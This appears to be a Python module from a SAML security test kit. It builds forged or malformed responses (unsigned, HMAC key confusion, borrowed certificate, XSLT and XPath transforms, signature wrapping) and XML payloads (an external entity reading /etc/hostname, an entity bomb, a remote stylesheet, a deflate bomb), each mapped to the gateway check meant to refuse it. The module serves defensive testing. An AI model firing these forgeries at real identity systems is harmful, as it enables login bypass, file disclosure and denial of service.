"""Answers that nobody with the provider's key has signed, and documents that are weapons."""

import zlib
from collections.abc import Callable

from lxml import etree

from providers.attacks.saml.forgeries import (
    FORGERIES,
    parts,
    without_signatures,
)
from providers.attacks.saml.messages import DS, SAML, Spoken
from providers.attacks.saml.provider import PlayedSamlProvider
from providers.attacks.saml.signing import xmlsec
from providers.attacks.saml.target import Document, SamlAttack, sending

# Whatever is wrong with the build of a document is refused by one of these, before or instead of
# its signature; where the row wants assertions encrypted, that it is not is enough.
STRUCTURE = (
    "saml.assertion_count",
    "saml.assertion_place",
    "saml.canonicalization",
    "saml.encryption",
    "saml.identifier",
    "saml.markup",
    "saml.namespace",
    "saml.reference",
    "saml.schema",
    "saml.signature",
    "saml.signature_algorithm",
    "saml.signature_count",
    "saml.signature_place",
    "saml.signature_shape",
    "saml.transforms",
    "saml.unsigned",
    "saml.xml",
)
XSLT = "http://www.w3.org/TR/1999/REC-xslt-19991116"
XPATH = "http://www.w3.org/TR/1999/REC-xpath-19991116"
_LOOP = (
    '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
    '<xsl:template match="/">'
    + '<xsl:for-each select="//*">' * 4
    + '<xsl:value-of select="count(//*)"/>'
    + "</xsl:for-each>" * 4
    + "</xsl:template></xsl:stylesheet>"
)
_ENTITIES = '<!ENTITY e0 "aaaaaaaaaa">' + "".join(
    f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 6)
)


def plain(provider: PlayedSamlProvider, said: Spoken) -> etree._Element:
    """A signed answer that is not encrypted, whatever the row asks for."""
    return provider.answer(said, encrypted=False)


def _forged(forge: Callable[[etree._Element], bytes]) -> Callable[..., Document]:
    return lambda provider, said: forge(plain(provider, said))


def _unsigned(provider: PlayedSamlProvider, said: Spoken) -> Document:
    return provider.answer(said, signed=())


def _other_part_signed(provider: PlayedSamlProvider, said: Spoken) -> Document:
    """Of a row that wants one part signed, the other one is."""
    other = "assertion" if provider.settings.signed == "response" else "response"
    return provider.answer(said, signed=(other,))


def _hmac(provider: PlayedSamlProvider, said: Spoken) -> Document:
    """The provider's public certificate, taken for a shared secret."""
    root = plain(provider, said)
    signature = parts(root)[1]
    signature[0][1].set("Algorithm", "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256")
    context = xmlsec.SignatureContext()
    certificate = provider.settings.certificates[0].encode()
    context.key = xmlsec.Key.from_binary_data(xmlsec.KeyData.HMAC, certificate)
    xmlsec.tree.add_ids(root, ["ID"])
    context.sign(signature)
    return etree.tostring(root)


def _borrowed_certificate(provider: PlayedSamlProvider, said: Spoken) -> Document:
    root = plain(provider, said)
    lines = provider.settings.certificates[0].strip().splitlines()[1:-1]
    for certificate in root.iter(f"{{{DS}}}X509Certificate"):
        certificate.text = "".join(lines)
    return etree.tostring(root)


def transformed(algorithm: str, inner: str) -> Callable[..., Document]:
    def make(provider: PlayedSamlProvider, said: Spoken) -> Document:
        root = plain(provider, said)
        for transforms in root.iter(f"{{{DS}}}Transforms"):
            told = f'<ds:Transform xmlns:ds="{DS}" Algorithm="{algorithm}">{inner}</ds:Transform>'
            transforms.insert(0, etree.fromstring(told))
        return etree.tostring(root)

    return make


def _before(head: str) -> Callable[..., Document]:
    return lambda provider, said: head.encode() + etree.tostring(plain(provider, said))


def _entity_in_name(provider: PlayedSamlProvider, said: Spoken) -> Document:
    document = etree.tostring(plain(provider, said)).replace(b"attack-kit-person", b"&e5;")
    return f"<!DOCTYPE r [{_ENTITIES}]>".encode() + document


def _deep(provider: PlayedSamlProvider, said: Spoken) -> Document:
    document = etree.tostring(plain(provider, said))
    deep = "<saml:Advice>" * 1000 + "</saml:Advice>" * 1000
    return document.replace(b"</saml:Assertion>", f"{deep}</saml:Assertion>".encode())


def _large(provider: PlayedSamlProvider, said: Spoken) -> Document:
    document = etree.tostring(plain(provider, said))
    return document.replace(b"</saml:Assertion>", b" " * 300_000 + b"</saml:Assertion>")


def _wide(provider: PlayedSamlProvider, said: Spoken) -> Document:
    document = etree.tostring(plain(provider, said))
    wide = b"<saml:AttributeValue/>" * 8_000
    return document.replace(b"</saml:Attribute>", wide + b"</saml:Attribute>", 1)


def _encrypted_unsigned(provider: PlayedSamlProvider, said: Spoken) -> Document:
    """Anybody can encrypt: what was encrypted is signed by nobody."""
    return provider.answer(said, signed=(), encrypted=True)


def _namespaces(provider: PlayedSamlProvider, said: Spoken) -> Document:
    document = etree.tostring(plain(provider, said))
    return document.replace(b"<samlp:Response ", b'<samlp:Response xmlns:z="z" ', 1)


def _assertion_alone(provider: PlayedSamlProvider, said: Spoken) -> Document:
    assertion = without_signatures(plain(provider, said)).find(f"{{{SAML}}}Assertion")
    return b"" if assertion is None else etree.tostring(assertion)


def inflating(document: bytes, times: int) -> bytes:
    """The document with so many spaces after it, which deflate to next to nothing."""
    packer = zlib.compressobj(9, wbits=-15)
    packed = [packer.compress(document)]
    packed += [packer.compress(b" " * 1_000_000) for _ in range(times)]
    return b"".join([*packed, packer.flush()])


_MARKUP = ("saml.markup",)
_MADE: tuple[tuple[str, str, str, tuple[str, ...], Callable[..., Document]], ...] = (
    ("unsigned", "signs nothing", "GHSA-cqj8-fxxf-9pg7", ("saml.unsigned",), _unsigned),
    (
        "encrypted-unsigned",
        "encrypts to the gateway what nobody signed",
        "CVE-2026-2092",
        ("saml.unsigned",),
        _encrypted_unsigned,
    ),
    (
        "stranger-key",
        "signs with a key of its own, and brings its certificate along",
        "CVE-2026-27962",
        ("saml.signature",),
        lambda provider, said: provider.answer(said),
    ),
    (
        "borrowed-certificate",
        "signs with a key of its own, under the provider’s certificate",
        "CVE-2026-27962",
        ("saml.signature", "saml.encryption"),
        _borrowed_certificate,
    ),
    (
        "hmac-certificate",
        "takes the provider’s public certificate for a shared secret",
        "CVE-2024-37568",
        # Where both parts are to be signed, the stranger's signature on the other one is met first.
        ("saml.signature_algorithm", "saml.signature", "saml.encryption"),
        _hmac,
    ),
    (
        "transform-xslt",
        "has a program run before the signature is judged (XSLT)",
        "XML Signature Best Practices, 2.1",
        ("saml.transforms", "saml.encryption"),
        transformed(XSLT, _LOOP),
    ),
    (
        "transform-xpath",
        "has the signed content chosen by a program (XPath)",
        "XML Signature Best Practices, 2.1",
        ("saml.transforms", "saml.encryption"),
        transformed(XPATH, f'<ds:XPath xmlns:ds="{DS}">count(//*) &gt; 0</ds:XPath>'),
    ),
    ("dtd", "brings a DTD", "CVE-2025-25291", _MARKUP, _before("<!DOCTYPE r>")),
    ("entity-bomb", "has a name grow by entities", "CVE-2025-25291", _MARKUP, _entity_in_name),
    (
        "external-entity",
        "has a file of the gateway read",
        "CVE-2025-25291",
        _MARKUP,
        _before('<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/hostname">]>'),
    ),
    (
        "processing-instruction",
        "brings a style sheet",
        "CVE-2025-25291",
        _MARKUP,
        _before('<?xml-stylesheet href="https://attack-kit.invalid/a.xsl"?>'),
    ),
    (
        "utf-7",
        "writes in another alphabet",
        "CVE-2025-25291",
        (*_MARKUP, "saml.encoding", "saml.xml"),
        _before('<?xml version="1.0" encoding="UTF-7"?>'),
    ),
    (
        "relative-namespace",
        "brings a namespace that canonicalisation stumbles over",
        "CVE-2025-66567",
        ("saml.namespace",),
        _namespaces,
    ),
    ("deep", "nests 1,000 deep", "RFC 8725, 3.6", ("saml.size", "saml.xml"), _deep),
    ("large", "is 300 kB", "RFC 8725, 3.6", ("saml.size",), _large),
    ("wide", "has 8,000 values", "RFC 8725, 3.6", ("saml.size",), _wide),
    ("not-xml", "is no XML", "saml-bindings 3.5", ("saml.xml",), lambda *_: b"attack"),
    ("empty", "is empty", "saml-bindings 3.5", ("saml.xml",), lambda *_: b""),
    (
        "not-a-response",
        "is a bare assertion",
        "saml-bindings 3.5",
        ("saml.message",),
        _assertion_alone,
    ),
)

ATTACKS = tuple(
    SamlAttack(
        name=f"saml.{name}",
        words=words,
        source=source,
        checks=checks,
        keyless=True,
        fire=sending(make),
    )
    for name, words, source, checks, make in _MADE
)
# With the provider's real signature on the part that is hidden, which a stolen answer has.
WRAPPINGS = (
    *(
        SamlAttack(
            name=f"saml.{name.replace('_', '-')}",
            words="; ".join((forge.__doc__ or name.replace("_", " ")).rstrip(".").splitlines()),
            source="Somorovsky and others 2012, CVE-2024-45409",
            checks=STRUCTURE,
            fire=sending(_forged(forge)),
        )
        for name, forge in FORGERIES.items()
    ),
    SamlAttack(
        name="saml.other-part-signed",
        words="signs the part that the row does not ask for, and leaves the other one",
        source="saml-profiles 4.1.4.3",
        checks=("saml.unsigned",),
        where=lambda provider: provider.settings.signed != "both",
        fire=sending(_other_part_signed),
    ),
)
